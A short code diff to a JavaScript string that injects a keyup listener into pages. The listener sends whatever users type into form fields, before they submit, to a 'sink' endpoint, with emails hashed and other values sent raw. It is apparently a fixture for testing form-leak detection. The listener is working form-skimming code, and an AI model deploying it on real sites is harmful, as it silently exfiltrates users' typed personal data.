@@ -16,9 +16,9 @@ const LISTENER = `
   document.addEventListener('keyup', ({ target }) => {
     if (!target.form) return;
     clearTimeout(target.timer);
-    target.timer = setTimeout(() => send(target.type, target.value), 400);
+    target.timer = setTimeout(() => send(target.type, target.name, target.value), 400);
   });
-  async function send(type, value) {
+  async function send(type, name, value) {
     if (type === 'email') {
       fetch(sink + '/hash?em=' + await hex('SHA-256', value), { mode: 'no-cors' });
       fetch(sink + '/upper?em=' + (await hex('SHA-1', value)).toUpperCase(), { mode: 'no-cors' });
@@ -33,7 +33,8 @@ const LISTENER = `
       fetch(sink + '/query?q=' + value, { mode: 'no-cors' });
       fetch(sink + '/path/' + value, { mode: 'no-cors' });
       navigator.sendBeacon(sink + '/beacon', value);
-      sessionStorage.setItem('draft', value);
+      // By field: what was typed into another one, perhaps not to its end, does not overwrite it.
+      sessionStorage.setItem('draft ' + name, value);
     }
   }
   document.addEventListener('submit', () => fetch('/submitted'));`;
